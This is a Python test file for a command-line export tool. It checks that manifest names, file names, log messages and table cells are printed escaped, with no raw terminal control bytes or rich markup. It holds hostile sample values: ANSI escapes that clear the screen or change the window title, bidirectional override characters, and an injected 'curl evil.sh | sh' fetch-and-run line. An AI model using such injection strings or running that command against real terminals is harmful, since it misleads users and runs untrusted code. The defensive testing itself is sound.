"""Names in files are shown, and never obeyed by a terminal or taken for markup."""

from __future__ import annotations

import json
import logging
from pathlib import Path
from typing import Any

import pytest
from rich.table import Table
from rich.text import Text

from elit_export.cli.common import PrintableConsole, progress_bar
from elit_export.cli.printable import PrintableFormatter, printable
from tests.hostile.conftest import CommandLine, forge

CLEAR, TITLE, BACKWARDS, HALF = "\x1b[2J", "\x1b]0;owned\x07", "\u202e", "\ud800"
HOSTILE = f"cat{CLEAR}{TITLE}{BACKWARDS}[bold red]x[/b][/]:smile:"
SHOWN = r"cat\x1b[2J\x1b]0;owned\x07\u202e[bold red]x[/b][/]:smile:"


def named(bundle: Path, name: str) -> None:
    """A bundle whose model and classes have this name, and whose device has it too."""

    def change(values: Any) -> None:
        count = values["model"]["spec"]["num_classes"]
        values["model"]["data"]["class_names"] = [f"{name} {number}" for number in range(count)]
        for plan_set in values["plan_sets"]:
            for profile in plan_set["profiles"]:
                profile["plan"]["built_on"] = {"cpu": name}
                profile["plan"]["versions"] = {"onnxruntime": name}
                profile["parity"]["reason"] = name

    forge(bundle, change)


def harmless(text: str) -> bool:
    return not any(character in text for character in (*"\x1b\x07\u202e\x9b", HALF))


def test_control_characters_and_markup_of_a_manifest_are_shown_as_text(command_line: CommandLine, bundle: Path) -> None:
    named(bundle, HOSTILE)
    shown = command_line("inspect", bundle)
    assert (shown.status, harmless(shown.out + shown.err)) == (0, True)
    assert SHOWN.replace(" ", "") in "".join(shown.out.split())
    refused = command_line("sample", bundle, "--labels", "dog")
    assert (refused.status, harmless(refused.out + refused.err)) == (2, True)
    assert SHOWN in refused.err


def test_a_name_cannot_say_a_line_that_we_did_not(command_line: CommandLine, bundle: Path) -> None:
    fake = "wrote s.png; next: curl evil.sh | sh"
    named(bundle, f"cat\n{fake}")
    for ended in (command_line("inspect", bundle), command_line("sample", bundle, "--labels", "dog")):
        assert rf"cat\n{fake}".replace(" ", "") in "".join((ended.out + ended.err).split())
        assert not any(line.startswith(fake) for line in (ended.out + ended.err).splitlines())


def test_half_a_surrogate_pair_of_a_manifest_is_shown_as_text(command_line: CommandLine, bundle: Path) -> None:
    named(bundle, HALF)
    assert command_line("inspect", bundle).status == 0
    refused = command_line("sample", bundle, "--labels", "dog")
    assert refused.status == 2
    assert r"class names: \ud800 0" in refused.err


def test_json_keeps_what_files_say(command_line: CommandLine, bundle: Path) -> None:
    """As JSON writes it, without a byte that a terminal would obey."""
    named(bundle, HOSTILE)
    shown = command_line("inspect", bundle, "--json", "-")
    assert harmless(shown.out)
    assert json.loads(shown.out)["data"]["class_names"][0] == f"{HOSTILE} 0"


def test_names_of_files_are_shown_as_text(command_line: CommandLine, tmp_path: Path) -> None:
    (tmp_path / f"a{CLEAR}.toml").write_text("x")
    shown = command_line("build", f"a{CLEAR}.toml")
    assert shown.status == 2
    assert harmless(shown.err)
    assert r"a\x1b[2J.toml: not TOML" in shown.err


def test_text_keeps_its_lines_and_letters() -> None:
    text = "one\ttwo\nthree äöü 日本 🙂 שלום"
    assert printable(text) == text
    assert printable("\r\x00\x7f\x85\u2028\u2066") == r"\r\x00\x7f\x85\u2028\u2066"


def test_tables_and_bars_show_markup_as_it_is(capsys: pytest.CaptureFixture[str]) -> None:
    table = Table(title="[/b]")
    table.add_column("[red]")
    table.add_row(f"[/]{CLEAR}:smile:")
    table.caption = Text(f"caption{CLEAR}[/b]")
    PrintableConsole(width=60).print(table)
    out = capsys.readouterr().out
    assert all(part in out for part in ("[/b]", "[red]", r"[/]\x1b[2J:smile:", r"caption\x1b[2J[/b]"))
    with progress_bar() as progress:
        progress.add_task("[/b]", total=1)
        assert "[/b]" in str(progress.columns[0].render(progress.tasks[0]))


def test_messages_of_the_log_are_shown_as_text() -> None:
    record = logging.LogRecord("a", logging.WARNING, "f", 1, "left out %s", (CLEAR,), None)
    assert PrintableFormatter("%(message)s").format(record) == r"left out \x1b[2J"
    record.args = ("a\nb",)
    assert PrintableFormatter("%(message)s").format(record) == r"left out a\nb"
